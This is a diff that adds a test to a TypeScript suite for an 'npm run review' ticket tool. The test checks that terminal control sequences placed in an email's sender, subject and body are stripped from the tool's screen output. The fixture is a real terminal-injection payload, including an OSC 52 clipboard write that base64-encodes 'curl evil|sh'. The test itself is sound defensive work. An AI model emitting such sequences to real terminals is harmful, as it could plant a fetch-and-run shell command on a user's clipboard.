@@ -46,6 +46,25 @@ afterAll(async () => {
 const review = (...args: string[]) => runNpm(['run', 'review', '--', ...args], env);
 
 describe('npm run review', () => {
+  it('prints hostile text inert: no terminal control sequences from a subject, a name or a draft reach the screen', async () => {
+    const messageId = customerMessageId('escape');
+    const hostile = 'x\u001b]0;pwned\u0007\u001b[2J\u001b]52;c;Y3VybCBldmlsfHNo\u0007\u009b31m';
+    const { ticketId } = await ingest(
+      running,
+      buildMail({ messageId, from: `"Eve${hostile}" <eve@customer.example>`, subject: `請求書 ${hostile}`, body: `請求書について${hostile}教えてください。` }),
+    );
+    const parked = await waitForState(running.store, ticketId, ['parked', 'sent']);
+    expect(parked.subject).toContain('\u001b');
+    const [table, show, json] = await Promise.all([review('list'), review('show', ticketId), review('show', ticketId, '--json')]);
+    for (const out of [table.stdout, show.stdout]) {
+      expect(out).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/);
+      expect(out).toContain('請求書');
+    }
+    // --json is data for programs: it keeps the text as it is (JSON escapes the controls).
+    expect((JSON.parse(json.stdout) as { subject: string }).subject).toContain('\u001b');
+  });
+
+
   it('lists, shows and approves a parked draft with an edited reply, which goes out without Auto-Submitted', async () => {
     const messageId = customerMessageId('review');
     const { ticketId } = await ingest(running, buildMail({ messageId, from: 'Kana <kana@customer.example>', subject: 'ライセンスについて', body: 'ライセンスの更新方法を教えてください。' }));
